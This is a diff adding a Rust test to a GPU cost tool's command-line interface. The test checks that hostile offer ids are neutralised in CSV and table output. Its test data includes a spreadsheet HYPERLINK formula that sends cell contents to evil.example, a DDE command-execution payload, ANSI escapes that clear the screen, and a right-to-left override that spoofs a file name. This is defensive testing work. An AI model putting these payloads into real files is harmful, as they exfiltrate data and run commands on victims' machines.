@@ -821,3 +821,75 @@ fn catalog_offers_become_options_costed_at_their_prices_through_to_a_signed_repo
     );
     assert!(words.contains("(assumed: no offer states it)"), "{words}");
 }
+
+/// Issue 16, item 9: an offer id `=HYPERLINK(...)` was written unescaped into `offers list
+/// --csv` (a spreadsheet runs it), and new lines, tabs, ANSI escapes and right-to-left
+/// overrides in an id broke the `offers list` table. The CSV neutralises a formula with a
+/// leading `'` and the table writes controls as visible escapes.
+#[test]
+fn hostile_offer_text_is_neither_a_formula_nor_a_terminal_control() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = dir.path().join("catalog.sqlite");
+    let store = store.to_str().unwrap();
+    let csv = dir.path().join("hostile.csv");
+    // The columns of docs/manual-csv.md; each id as a hostile quote-by-mail might carry it.
+    let ids = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1-2",
+        "-2+3",
+        "red\u{1b}[31m\u{1b}[2Jcleared",
+        "two\nlines\tand tab",
+        "abc\u{202e}fdp.exe",
+    ];
+    let mut text_csv =
+        String::from("offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model\n");
+    for id in ids {
+        text_csv.push_str(&format!(
+            "\"{}\",https://quotes.example/,2026-11-20,H100,1,2.50 EUR,hour,on_demand\n",
+            id.replace('"', "\"\"")
+        ));
+    }
+    std::fs::write(&csv, text_csv).unwrap();
+    let imported = gpucase(&["offers", "import", csv.to_str().unwrap(), "--store", store]);
+    assert!(imported.status.success(), "{}", text(&imported.stderr));
+
+    let listed = gpucase(&["offers", "list", "--csv", "--store", store]);
+    assert!(listed.status.success(), "{}", text(&listed.stderr));
+    let listed = text(&listed.stdout);
+    // The line that continues the quoted id with a new line starts with no provider.
+    for id in listed
+        .lines()
+        .skip(1)
+        .filter_map(|l| l.strip_prefix("manual,"))
+    {
+        for start in ['=', '+', '-', '@'] {
+            assert!(!id.starts_with(start), "{id}");
+            assert!(!id.starts_with(&format!("\"{start}")), "{id}");
+        }
+    }
+    assert!(
+        listed.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\","),
+        "{listed}"
+    );
+    assert!(
+        listed.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"),
+        "{listed}"
+    );
+    assert!(listed.contains(",'+1-2,"), "{listed}");
+    assert!(listed.contains(",'-2+3,"), "{listed}");
+    // The id with a new line is one quoted field: the header, seven offers, one extra line.
+    assert_eq!(listed.lines().count(), 1 + ids.len() + 1, "{listed}");
+
+    let table = gpucase(&["offers", "list", "--store", store]);
+    assert!(table.status.success(), "{}", text(&table.stderr));
+    let table = text(&table.stdout);
+    assert!(!table.contains('\u{1b}'), "{table:?}");
+    assert!(!table.contains('\u{202e}'), "{table:?}");
+    assert!(!table.contains('\t'), "{table:?}");
+    assert!(table.contains("red\\u{1b}[31m"), "{table}");
+    assert!(table.contains("two\\nlines\\tand tab"), "{table}");
+    assert!(table.contains("abc\\u{202e}fdp.exe"), "{table}");
+    // One row per offer and the count line.
+    assert_eq!(table.lines().count(), ids.len() + 1, "{table}");
+}
